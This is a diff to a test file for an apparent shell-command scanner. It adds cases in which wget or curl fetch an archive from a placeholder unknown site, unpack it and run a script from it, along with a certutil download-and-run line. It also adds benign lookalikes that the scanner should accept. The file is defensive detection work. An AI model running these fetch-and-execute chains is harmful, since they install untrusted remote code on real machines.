@@ -41,6 +41,38 @@ def test_attack_a_saved_and_started_download_is_found(commands):
 
 
 @pytest.mark.parametrize(
+    "commands",
+    [
+        f"wget -qO /tmp/s.tgz {UNKNOWN_SITE}/s.tgz && tar -xzf /tmp/s.tgz -C /tmp/q && sh /tmp/q/a.sh",
+        f'D=$(mktemp -d)\nwget -qO "$D/s.tgz" {UNKNOWN_SITE}/s.tgz\ntar -xzf "$D/s.tgz" -C "$D"\n"$D/a"',
+        f"cd $(mktemp -d)\ncurl -sLo a.tgz {UNKNOWN_SITE}/s.tgz\ntar xzf a.tgz\nsh a.sh",
+        f"curl -sL {UNKNOWN_SITE}/s.tgz | tar xz; ./a",
+        f"curl -sL {UNKNOWN_SITE}/s.tgz | tar xz -C q && q/bin/a",
+        f"curl -sLO {UNKNOWN_SITE}/s.zip && unzip -q s.zip -d q && cd q && make",
+        f"curl -sLO {UNKNOWN_SITE}/s.zip && unzip s.zip\ncd s-1.0\n./a",
+        f"curl -sLO {UNKNOWN_SITE}/s.tgz; mv s.tgz t.tgz; tar xf t.tgz -C q; python q/a.py",
+        f"S={UNKNOWN_SITE}/s.tgz\ncurl -sLo s.tgz $S\ntar xf s.tgz -C q\nq/a",
+        f"export S='{UNKNOWN_SITE}/a'\ncurl -sLo a \"${{S}}\"\nsh a",
+    ],
+)
+def test_attack_a_file_of_a_downloaded_archive_that_is_started_is_found(commands):
+    assert seen(commands) == {"SH113"}
+
+
+@pytest.mark.parametrize(
+    "commands",
+    [
+        f"curl -sLO {UNKNOWN_SITE}/data.zip && unzip data.zip\npython train.py",  # which may be the user's own
+        f"curl -sLO {UNKNOWN_SITE}/data.zip && unzip data.zip -d data && make && ./a",
+        f"curl -sLO {UNKNOWN_SITE}/data.tgz\ntar xf own.tgz\n./a",
+        f"curl -sL {UNKNOWN_SITE}/data.json -o a.json\ntar xf own.tgz\n./a",
+    ],
+)
+def test_a_program_beside_an_unpacked_archive_is_accepted(commands):
+    assert seen(commands) == set()
+
+
+@pytest.mark.parametrize(
     ("commands", "path"),
     [
         (rf"certutil -urlcache -split -f {UNKNOWN_SITE}/u.exe %TEMP%\u.exe && %TEMP%\u.exe", "a.bat"),
@@ -151,6 +183,8 @@ def test_harmless_clones_are_accepted(commands):
         "cd a;",
         "curl -o a b;",
         "./a;",
+        "curl https://a.invalid/a | tar x;",
+        "tar xf a -C b; A=https://a.invalid; curl -o a $A\n",
         "curl -o a https://a.invalid/a\n",
         "curl ",
         "mshta ",
